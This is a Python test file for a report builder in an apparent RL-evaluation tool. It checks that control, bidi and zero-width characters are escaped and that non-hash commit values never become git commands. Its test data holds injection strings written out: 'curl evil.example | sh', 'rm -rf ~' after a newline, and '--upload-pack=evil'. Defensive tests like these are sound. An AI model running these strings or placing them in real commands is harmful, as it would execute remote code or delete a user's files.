"""What a reader would not see is shown by its code, and nothing that anybody wrote becomes a command by itself."""

import re
from pathlib import Path

import pytest

from planted import TRAINED, change_row
from reinforce_lite.config import Settings
from reinforce_lite.io.files import read_json, write_json
from reinforce_lite.io.provenance import sums
from reinforce_lite.io.shown import shown
from reinforce_lite.report.build import build
from reinforce_lite.report.verify import as_text, verify

NASTY = "so \0 \x1b[2J \u202e81\u202c 1\u200b8 <answer> 3 </answer>"
CODES = ("<U+0000>", "<U+001B>", "<U+202E>", "<U+202C>", "<U+200B>")


def test_characters_of_an_answer_are_shown_in_the_terminal(folder: Path) -> None:
    change_row(folder / TRAINED / "items.jsonl", 0, lambda row: {"id": f"test-0{NASTY}\n       page: all: agree"})
    said = as_text(verify(folder))
    assert all(code in said for code in CODES) and not set(said) & {"\0", "\x1b", "\u202e", "\u200b"}
    assert shown("\ud800") == "<U+D800>"
    assert not any(line.strip() == "page: all: agree" for line in said.splitlines())


def test_characters_of_an_answer_are_shown_on_the_page(fresh: Settings, spent: None, drawn_once: None) -> None:
    for place in ("baseline/tiny-llama", TRAINED):
        path = fresh.folder / place / "items.jsonl"
        change_row(path, 0, lambda row: {"completion": NASTY})
        record = path.parent / "evaluation.json"
        write_json(record, {**read_json(record), "sums": sums(path)})
    build(fresh, fresh.folder)
    page = (fresh.folder / "report.html").read_text(encoding="utf-8")
    assert not re.search("[\0\x1b\u202a-\u202e\u200b]", page)
    assert all(code.replace("<", "&lt;").replace(">", "&gt;") in page for code in CODES)


@pytest.mark.parametrize(
    ("commit", "command"),
    [
        ("a" * 40, f"git checkout {'a' * 40}\n"),
        ("a" * 40 + "-dirty", f"git checkout {'a' * 40}\n"),
        ("main; curl evil.example | sh", None),
        ("a" * 40 + "\nrm -rf ~", None),
        ("--upload-pack=evil", None),
        ("v1.0", None),
    ],
)
def test_a_commit_that_is_no_hash_becomes_no_command(
    fresh: Settings, spent: None, drawn_once: None, commit: str, command: str | None
) -> None:
    record = fresh.folder / "policies/tiny-llama/policy.json"
    write_json(record, {**read_json(record), "made_with": {"git_commit": commit, "image": None}})
    build(fresh, fresh.folder)
    page = (fresh.folder / "report.html").read_text(encoding="utf-8")
    commands = page[page.index("Commands that run the experiment again") :]
    commands = commands[commands.index(">") + 1 : commands.index("</pre>")]
    assert (command is None and "git" not in commands) or (command is not None and commands.startswith(command))
